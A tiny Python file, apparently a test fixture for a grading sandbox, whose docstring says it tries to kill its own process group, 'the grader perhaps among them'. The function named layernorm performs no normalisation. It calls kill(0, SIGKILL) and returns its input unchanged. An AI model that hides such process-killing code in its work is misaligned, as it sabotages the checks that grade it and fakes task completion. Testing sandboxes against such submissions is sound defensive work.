"""Wants all of its process group dead, the grader perhaps among them.

Fails because the group is its own, and signals to others are refused.
"""

import ctypes
import signal


def layernorm(x, gain, bias, eps=1e-5):
    ctypes.CDLL(None).kill(0, signal.SIGKILL)
    return x
